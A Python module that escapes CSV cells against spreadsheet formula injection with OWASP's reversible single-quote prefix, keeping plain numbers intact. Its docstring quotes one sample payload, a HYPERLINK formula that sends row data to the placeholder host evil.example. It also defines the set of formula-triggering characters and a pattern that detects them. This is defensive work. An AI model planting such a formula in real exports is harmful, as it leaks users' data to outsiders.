"""Spreadsheet-safe CSV cells: OWASP's quote prefix against formula injection, reversibly.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-``, ``@``, tab or carriage return as a
formula, so a title such as ``=HYPERLINK("http://evil.example/?d="&A2,"Click")`` becomes a live
link that leaks the row. OWASP's rule is to prefix such a cell with a single quote, which
spreadsheets show as text. geodata reads its own CSV back, so the prefix must come off again
without ambiguity:

* :func:`escape_cell` adds one quote to a value made of zero or more quotes followed by a dangerous
  character (so a value that already begins ``'=`` becomes ``''=`` and is not mistaken for an
  escaped ``=``); plain numbers such as ``-33.5`` stay as they are, so coordinates stay numbers.
* :func:`unescape_cell` removes one quote from a value made of one or more quotes followed by a
  dangerous character, and leaves everything else alone.

Hence ``unescape_cell(escape_cell(s)) == s`` for every string ``s``, and no escaped cell begins
with a dangerous character unless it is a plain number.
"""

from __future__ import annotations

import re

#: First characters a spreadsheet reads as the start of a formula (OWASP, "CSV Injection").
DANGEROUS = frozenset("=+-@\t\r")
#: A regular expression matching the start of every value :func:`escape_cell` may change.
ESCAPE_PATTERN = r"'*[=+\-@\t\r]"
#: A plain decimal number; ASCII digits only, as a spreadsheet reads them.
_NUMBER = re.compile(r"[-+]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][-+]?[0-9]+)?", re.ASCII)


def _quotes(text: str) -> int:
    """How many single quotes ``text`` begins with."""
    return len(text) - len(text.lstrip("'"))


def escape_cell(text: str) -> str:
    """``text`` made safe to open in a spreadsheet (see the module docstring)."""
    count = _quotes(text)
    if count < len(text) and text[count] in DANGEROUS and not (count == 0 and _NUMBER.fullmatch(text)):
        return "'" + text
    return text


def unescape_cell(text: str) -> str:
    """The value :func:`escape_cell` turned into ``text``."""
    count = _quotes(text)
    if 0 < count < len(text) and text[count] in DANGEROUS:
        return text[1:]
    return text


def is_dangerous(text: str) -> bool:
    """True when a spreadsheet would read ``text`` as a formula (a plain number is not one)."""
    return bool(text) and text[0] in DANGEROUS and not _NUMBER.fullmatch(text)
